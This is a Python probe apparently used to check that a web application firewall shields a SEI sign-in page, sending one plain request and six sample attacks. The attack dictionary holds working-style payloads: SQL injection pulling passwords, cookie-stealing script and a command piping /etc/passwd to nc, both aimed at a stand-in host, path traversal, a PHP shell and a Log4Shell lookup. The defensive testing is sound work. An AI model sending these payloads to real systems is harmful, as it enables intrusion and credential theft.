"""Whether the web application firewall stands before an environment: a few attacks, and a page that must pass."""

from functools import partial
from http import HTTPStatus

import httpx

from blocks.http_client import NO_ANSWER, client_for
from blocks.probes.attempts import Attempt, RefusedError, try_all, unanswered
from blocks.runtime import ServiceAddress
from domain.segregation import ProbeResult, Way

_PAGE = "/sip/login.php"
# Stopped by the WAF, or by nginx as no HTTP at all; any other answer came from behind.
_STOPPED = frozenset({HTTPStatus.FORBIDDEN, HTTPStatus.BAD_REQUEST})
# One of each kind that the rules cover; the long list is the test suite's.
_ATTACKS = {
    "injeção de SQL": {"id": "1' UNION SELECT senha FROM usuario-- -"},
    "script na página": {"txtPesquisa": "<script>document.location='https://x.invalid/?'+document.cookie</script>"},
    "arquivo do servidor": {"arquivo": "../../../../etc/passwd"},
    "comando do sistema": {"cmd": ";cat /etc/passwd|nc x.invalid 80"},
    "código PHP": {"pagina": "<?php system($_GET['c']); ?>"},
    "Log4Shell": {"q": "${jndi:ldap://x.invalid/a}"},
}


def probe_waf(address: ServiceAddress) -> list[ProbeResult]:
    """Send each attack to the sign-in page, and the plain page, through the environment's public address."""
    attacks: dict[str, Attempt] = {
        f"ataque: {title}": partial(_ask, address, parameters) for title, parameters in _ATTACKS.items()
    }
    plain: dict[str, Attempt] = {"abrir a página de entrada": partial(_ask, address, {"sigla_sistema": "SEI"})}
    return try_all(Way.WAF, plain, control=True) + try_all(Way.WAF, attacks)


def _ask(address: ServiceAddress, parameters: dict[str, str]) -> str:
    try:
        with client_for(address) as client:
            answer = client.get(_PAGE, params=parameters)
    except httpx.HTTPError as e:
        raise unanswered(type(e).__name__, address.host) from None
    if answer.status_code in NO_ANSWER:
        raise unanswered(f"HTTP {answer.status_code}", address.host)
    if answer.status_code in _STOPPED:
        raise RefusedError(f"HTTP {answer.status_code}")
    # Maintenance too is an answer of the environment's own: the request came through.
    return f"HTTP {answer.status_code}"
